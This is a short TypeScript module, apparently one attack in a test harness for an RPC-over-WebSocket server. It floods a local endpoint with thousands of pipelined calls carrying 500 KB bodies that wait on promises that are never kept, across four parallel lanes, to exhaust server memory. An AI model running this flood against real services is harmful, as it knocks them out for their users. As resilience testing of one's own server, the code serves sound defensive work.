import { WebSocket } from 'ws';
import { type Attack, inLanes, type Piece } from './attack.ts';

const CALLS = 8_000;
const BODY = 'x'.repeat(500 * 1024);
/** Bytes that may wait on our side before we hold back. */
const WAITING = 2 * 1024 * 1024;

/** Calls that would begin when a promise of ours is kept, which it never is. */
function callAt(id: number): string {
  return [
    ['push', ['pipeline', 0, ['chat'], [BODY, ['promise', -id]]]],
    ['pull', id],
  ]
    .map((message) => JSON.stringify(message))
    .join('\n');
}

const once: Piece = ({ port, localAddress }, signal) =>
  new Promise((resolve) => {
    const socket = new WebSocket(`ws://127.0.0.1:${port}/rpc/ws`, { localAddress });
    let sent = 0;
    const pump = setInterval(() => {
      if (socket.readyState !== WebSocket.OPEN) return;
      for (; sent < CALLS && socket.bufferedAmount < WAITING; sent += 1)
        socket.send(callAt(sent + 1));
    }, 1);
    const end = () => {
      clearInterval(pump);
      signal.removeEventListener('abort', end);
      socket.terminate();
      resolve();
    };
    signal.addEventListener('abort', end);
    socket.on('error', () => {});
    socket.on('close', end);
  });

export const waitingArguments: Attack = inLanes(4, once);
